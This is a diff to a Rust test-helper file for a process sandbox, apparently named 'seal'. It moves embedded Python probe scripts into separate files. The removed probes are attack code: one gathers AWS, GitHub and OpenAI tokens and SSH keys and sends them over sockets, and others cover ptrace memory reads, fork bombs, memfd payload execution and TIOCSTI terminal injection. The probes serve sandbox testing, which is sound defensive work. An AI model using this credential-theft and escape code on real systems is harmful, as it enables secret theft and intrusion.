@@ -83,33 +83,14 @@ pub const NO_CAPS: &str = "0000000000000000";
 /// `cap_prm` (each after `prefix`) without /proc, which the fallback has not got. The
 /// capability sets are formatted as /proc/PID/status shows them; they are left out if capget
 /// fails.
-pub const PRIVILEGES: &str = r#"
-PR_GET_SECCOMP, PR_GET_NO_NEW_PRIVS = 21, 39
-class CapHeader(ctypes.Structure):
-    _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]
-class CapData(ctypes.Structure):
-    _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
-                ("inheritable", ctypes.c_uint32)]
-def put_privileges(prefix=""):
-    put(prefix + "no_new_privs", str(LIBC.prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)))
-    put(prefix + "seccomp_mode", str(LIBC.prctl(PR_GET_SECCOMP, 0, 0, 0, 0)))
-    hdr = CapHeader(0x20080522, 0)
-    data = (CapData * 2)()
-    if LIBC.capget(ctypes.byref(hdr), data) == 0:
-        put(prefix + "cap_eff", "%08x%08x" % (data[1].effective, data[0].effective))
-        put(prefix + "cap_prm", "%08x%08x" % (data[1].permitted, data[0].permitted))
-"#;
+pub const PRIVILEGES: &str = include_str!("probes/privileges.py");
 
 // ---------------------------------------------------------------------------------------------
 // Files
 
 /// Every canary file, read through `~` ("tilde:REL") and through the host path of HOME
 /// ("abs:REL").
-const READ_CANARIES: &str = r#"
-for rel in A["files"]:
-    attempt("tilde:" + rel, read_head, os.path.expanduser("~/" + rel))
-    attempt("abs:" + rel, read_head, os.path.join(A["host_home"], rel))
-"#;
+const READ_CANARIES: &str = include_str!("probes/read_canaries.py");
 
 /// The canary-file probe with `extra` (more attempts) after it, and its arguments.
 pub fn read_canaries_probe(env: &TestEnv, extra: &str) -> (PathBuf, String) {
@@ -139,36 +120,7 @@ pub fn expect_canaries_read(c: &Probe, env: &TestEnv) {
 }
 
 /// Writes of every kind into the project (the working directory).
-const WRITE_PROJECT: &str = r##"
-p = A["project"]
-existing = os.path.join(p, "existing.txt")
-def create():
-    path = os.path.join(p, "created-" + A["nonce"])
-    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644))
-    os.unlink(path)
-attempt("create", create)
-def append_existing():
-    fd = os.open(existing, os.O_WRONLY | os.O_APPEND)
-    try:
-        os.write(fd, b"tampered\n")
-    finally:
-        os.close(fd)
-attempt("append_existing", append_existing)
-def mkdir():
-    d = os.path.join(p, "dir-" + A["nonce"])
-    os.mkdir(d)
-    os.rmdir(d)
-attempt("mkdir", mkdir)
-def rename():
-    os.rename(existing, existing + ".moved")
-    os.rename(existing + ".moved", existing)
-attempt("rename", rename)
-def git_hook():
-    with open(os.path.join(p, ".git", "hooks", "pre-commit"), "w") as f:
-        f.write("#!/bin/sh\necho hooked\n")
-attempt("git_hook", git_hook)
-attempt("chmod", os.chmod, existing, 0o666)
-"##;
+const WRITE_PROJECT: &str = include_str!("probes/write_project.py");
 
 /// The writes of the project probe, besides "chmod" (to 0666).
 pub const PROJECT_WRITES: &[&str] = &["create", "append_existing", "mkdir", "rename", "git_hook"];
@@ -210,11 +162,7 @@ pub fn expect_project_written(c: &Probe) {
 }
 
 /// Reads the named input, the file beside it, and lists their directory.
-const INPUTS: &str = r#"
-attempt("read_input", read_head, A["input"])
-attempt("read_sibling", read_head, A["sibling"])
-attempt("ls_parent", lambda: ",".join(sorted(os.listdir(os.path.dirname(A["input"])))))
-"#;
+const INPUTS: &str = include_str!("probes/inputs.py");
 
 /// Makes data/input.txt ("the input\n") and, beside it, data/secret.txt (holding the tag) in
 /// the test directory; returns the inputs probe with `extra` after it, its arguments and the
@@ -246,10 +194,7 @@ pub fn expect_the_sibling_too(c: &Probe, env: &TestEnv) {
 }
 
 /// Opens each of A["targets"] for writing, without writing ("wr:PATH").
-pub const WRITE_TARGETS: &str = r#"
-for t in A["targets"]:
-    attempt("wr:" + t, open_for_write_only, t)
-"#;
+pub const WRITE_TARGETS: &str = include_str!("probes/write_targets.py");
 
 /// The os.py of the system's Python 3: an existing, non-executable host file.
 pub fn system_os_py() -> String {
@@ -287,12 +232,7 @@ pub fn expect_targets_as_the_host_allows<S: AsRef<str>>(c: &Probe, v: &Variant, 
 
 /// Every variable ("env:NAME", canary values shown as HAS-CANARY) and each of A["names"]
 /// looked up ("get:NAME", "absent" when unset).
-const ENV_DUMP: &str = r#"
-for k, v in os.environ.items():
-    put("env:" + k, "HAS-CANARY" if "CANARY-" in v else v)
-for n in A["names"]:
-    put("get:" + n, "HAS-CANARY" if "CANARY-" in os.environ.get(n, "") else os.environ.get(n, "absent"))
-"#;
+const ENV_DUMP: &str = include_str!("probes/env_dump.py");
 
 /// The environment probe looking `names` up, and its arguments.
 pub fn env_dump_probe(env: &TestEnv, names: &[&str]) -> (PathBuf, String) {
@@ -367,37 +307,7 @@ pub fn expect_canary_env(p: &Probe, value: &str) {
 /// What an exfiltrating package does first: collect secrets from the environment and from
 /// HOME (through `~` and, given A["host_home"], through the host path), into PAYLOAD. Then
 /// `send_stream(family, addr)` and `udp_exchange(addr)` (send, wait for an answer) send it.
-const GATHER: &str = r#"
-secrets = []
-for n in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY"]:
-    if n in os.environ:
-        secrets.append(os.environ[n])
-paths = [os.path.expanduser("~/" + rel) for rel in [".ssh/id_rsa", ".aws/credentials"]]
-if "host_home" in A:
-    paths.append(os.path.join(A["host_home"], ".ssh/id_rsa"))
-for path in paths:
-    try:
-        secrets.append(read_head(path).strip())
-    except OSError:
-        pass
-PAYLOAD = ("exfil " + A["marker"] + " " + " ".join(secrets)).encode()
-def send_stream(family, addr):
-    s = socket.socket(family, socket.SOCK_STREAM)
-    s.settimeout(3)
-    try:
-        s.connect(addr)
-        s.sendall(PAYLOAD)
-    finally:
-        s.close()
-def udp_exchange(addr):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.settimeout(3)
-    try:
-        s.sendto(PAYLOAD, addr)
-        s.recv(512)
-    finally:
-        s.close()
-"#;
+const GATHER: &str = include_str!("probes/gather.py");
 
 /// A probe that gathers secrets, then runs `body` (args: marker, optionally host_home).
 pub fn exfil_probe(env: &TestEnv, name: &str, body: &str) -> PathBuf {
@@ -412,55 +322,12 @@ pub fn expect_exfil_received(sink: &Sink, env: &TestEnv, marker: &str, what: &st
 }
 
 /// A server and a client on the program's own loopback ("loopback_echo": "ping").
-pub const LOOPBACK_ECHO: &str = r#"
-def loopback_echo():
-    srv = socket.socket()
-    srv.bind(("127.0.0.1", 0))
-    srv.listen(1)
-    c = socket.create_connection(srv.getsockname(), timeout=3)
-    a, _ = srv.accept()
-    c.sendall(b"ping")
-    return a.recv(4).decode()
-attempt("loopback_echo", loopback_echo)
-"#;
+pub const LOOPBACK_ECHO: &str = include_str!("probes/loopback_echo.py");
 
 // ---------------------------------------------------------------------------------------------
 // Other processes: a test-owned sleeper
 
-const PTRACE: &str = r#"
-PTRACE_SEIZE = 0x4206
-LIBC.ptrace.restype = ctypes.c_long
-def seize(pid):
-    ctypes.set_errno(0)
-    return cres(LIBC.ptrace(ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), None, None))
-# In a throwaway child: the trace ends when the child exits.
-put("ptrace_host", in_child(lambda: seize(A["host_pid"])))
-class iovec(ctypes.Structure):
-    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
-def vm_read(pid, addr):
-    buf = ctypes.create_string_buffer(8)
-    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
-    remote = iovec(ctypes.c_void_p(addr), 8)
-    ctypes.set_errno(0)
-    r = LIBC.syscall(ctypes.c_long(NR["process_vm_readv"]), ctypes.c_long(pid),
-                     ctypes.byref(local), ctypes.c_ulong(1), ctypes.byref(remote),
-                     ctypes.c_ulong(1), ctypes.c_ulong(0))
-    return cres(r)
-put("vm_read_host", vm_read(A["host_pid"], A["host_addr"]))
-# A process of the sandbox's own: refused by seccomp, not merely by a PID namespace.
-r, w = os.pipe()
-kid = os.fork()
-if kid == 0:
-    os.close(w)
-    os.read(r, 1)
-    os._exit(0)
-os.close(r)
-put("ptrace_own_child", in_child(lambda: seize(kid)))
-# The child is a fork: the same address is mapped in it.
-put("vm_read_own_child", vm_read(kid, id(A)))
-os.close(w)
-os.waitpid(kid, 0)
-"#;
+const PTRACE: &str = include_str!("probes/ptrace.py");
 
 /// First mapped address of a host process (read by the test, which may).
 fn first_mapping(pid: i32) -> u64 {
@@ -501,21 +368,7 @@ pub fn ptrace_and_vm_read_are_refused(env: &TestEnv, mode: Mode, host: &[&str]) 
 // Lifetime
 
 /// A classic daemon: fork, setsid, fork again, the grandchild writes a marker file 2 s later.
-const SURVIVOR: &str = r#"
-marker_file = os.path.join(A["out"], "survivor-" + A["nonce"])
-code = "import sys, time; time.sleep(2); open(sys.argv[1], 'w').write('survived')"
-pid = os.fork()
-if pid == 0:
-    os.setsid()
-    if os.fork() == 0:
-        devnull = os.open("/dev/null", os.O_RDWR)
-        for fd in (0, 1, 2):
-            os.dup2(devnull, fd)
-        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code, marker_file, A["marker"]])
-    os._exit(0)
-os.waitpid(pid, 0)
-put("spawned", "OK")
-"#;
+const SURVIVOR: &str = include_str!("probes/survivor.py");
 
 /// A setsid double-fork daemon dies with the run: no process is left when seal returns, and
 /// the marker file it would write in the --out-live directory never appears. Positive control:
@@ -565,13 +418,7 @@ pub fn survivor_dies_with_the_run(env: &TestEnv, mode: Mode) {
 
 /// A program (argv[1]: a marker) that starts a long-sleeping child in a session of its own
 /// (its command line carries "MARKER-child"), prints "ready HOME" and sleeps.
-pub const PARENT_WITH_CHILD: &str = r#"
-import os, subprocess, sys, time
-child = subprocess.Popen([sys.executable, "-I", "-S", "-c", "import time; time.sleep(120)", sys.argv[1] + "-child"],
-                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
-print("ready", os.environ.get("HOME"), flush=True)
-time.sleep(120)
-"#;
+pub const PARENT_WITH_CHILD: &str = include_str!("probes/parent_with_child.py");
 
 /// seal (in `mode`) killed with SIGKILL while its program and that program's child run: no
 /// process of the sandbox survives it. Positive control: killing the same program run without
@@ -623,38 +470,7 @@ pub fn killing_seal_kills_every_sandbox_process(env: &TestEnv, mode: Mode) -> Ou
 }
 
 /// Forks up to A["max_forks"] children (blocked on a pipe), then kills and reaps them.
-const FORK_BOMB: &str = r#"
-limit = A["max_forks"]
-deadline = time.time() + 20
-r, w = os.pipe()
-kids = []
-err = "none"
-while len(kids) < limit and time.time() < deadline:
-    try:
-        pid = os.fork()
-    except OSError as e:
-        err = ename(e)
-        break
-    if pid == 0:
-        # Block until the parent closes the pipe (or dies): never outlives it for long.
-        os.close(w)
-        try:
-            os.read(r, 1)
-        finally:
-            os._exit(0)
-    kids.append(pid)
-put("forks", len(kids))
-put("fork_error", err)
-os.close(w)
-for k in kids:
-    try:
-        os.kill(k, signal.SIGKILL)
-    except OSError:
-        pass
-for k in kids:
-    os.waitpid(k, 0)
-put("cleaned", "OK")
-"#;
+const FORK_BOMB: &str = include_str!("probes/fork_bomb.py");
 
 /// A fork bomb under `--pids 64` stops with EAGAIN after fewer than `bound` forks and leaves
 /// nothing behind. Positive control: without seal `control_forks` (more than 64) forks all
@@ -741,57 +557,11 @@ pub fn fork_bomb_is_stopped(env: &TestEnv, mode: Mode, bound: usize, control_for
 
 /// Writes the Python interpreter into a memfd and executes it (fexecve: execveat(fd, "",
 /// AT_EMPTY_PATH), no /proc needed) with the payload A["payload_file"] holds.
-const MEMFD: &str = r#"
-with open(A["payload_file"]) as f:
-    src = f.read()
-def make():
-    fd = os.memfd_create("payload", 0)
-    with open(sys.executable, "rb") as f:
-        os.write(fd, f.read())
-    return fd
-try:
-    fd = make()
-    put("memfd_create", "OK")
-except OSError as e:
-    fd = None
-    put("memfd_create", ename(e))
-if fd is not None:
-    sys.stdout.flush()
-    pid = os.fork()
-    if pid == 0:
-        try:
-            os.execve(fd, ["memfd-payload", "-I", "-S", "-c", src, sys.argv[1]], dict(os.environ))
-        except OSError as e:
-            sys.stdout.write("PROBE\tmemfd_exec\t%s\n" % ename(e))
-            sys.stdout.flush()
-        os._exit(111)
-    _, status = os.waitpid(pid, 0)
-    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0:
-        put("memfd_exec", "OK")
-    elif os.WIFEXITED(status) and os.WEXITSTATUS(status) == 111:
-        pass  # the child reported the errno itself
-    else:
-        put("memfd_exec", "status %d" % status)
-"#;
+const MEMFD: &str = include_str!("probes/memfd.py");
 
 /// What the payload executed from the memfd does: the same as any malware would. (After
 /// [`PRIVILEGES`].)
-const MEMFD_PAYLOAD: &str = r#"
-put("payload_ran", "yes")
-put("payload_uid", str(os.getuid()))
-def canary_in(path):
-    return "canary" if "CANARY-" in read_head(path) else "clean"
-attempt("payload_read_ssh_host_path", canary_in, os.path.join(A["host_home"], ".ssh/id_rsa"))
-attempt("payload_read_ssh_tilde", canary_in, os.path.expanduser("~/.ssh/id_rsa"))
-put("payload_env", "canary" if any("CANARY-" in v for v in os.environ.values()) else "clean")
-def tcp():
-    s = socket.create_connection(("127.0.0.1", A["port"]), timeout=3)
-    s.sendall(("payload " + A["marker"]).encode())
-    s.close()
-attempt("payload_tcp", tcp)
-put_privileges("payload_")
-put("payload_keyctl", syscall("keyctl", 0, -3, 0))
-"#;
+const MEMFD_PAYLOAD: &str = include_str!("probes/memfd_payload.py");
 
 /// What the memfd test expects where the modes differ.
 pub struct MemfdExpect<'a> {
@@ -867,19 +637,10 @@ pub fn memfd_payload_is_still_sandboxed(env: &TestEnv, mode: Mode, expect: &Memf
 // Kernel-facing restrictions
 
 /// keyctl (a look-up of the session keyring) and io_uring_setup (a ring created).
-pub const KEYCTL_IO_URING: &str = r#"
-KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING = 0, -3
-put("keyctl", syscall("keyctl", KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0))
-params = ctypes.create_string_buffer(120)
-put("io_uring_setup", syscall("io_uring_setup", 1, params))
-"#;
+pub const KEYCTL_IO_URING: &str = include_str!("probes/keyctl_io_uring.py");
 
 /// Pushes a character into the input of the controlling terminal (stdin).
-const TIOCSTI_CTTY: &str = r##"
-import fcntl, termios
-put("stdin_isatty", "yes" if os.isatty(0) else "no")
-attempt("tiocsti_ctty", lambda: fcntl.ioctl(0, termios.TIOCSTI, b"#") and None)
-"##;
+const TIOCSTI_CTTY: &str = include_str!("probes/tiocsti_ctty.py");
 
 /// The real attack (CVE-2017-5226): push characters into the input of the user's terminal,
 /// which their shell reads after the program ends. seal (in `mode`) runs on a pty the test
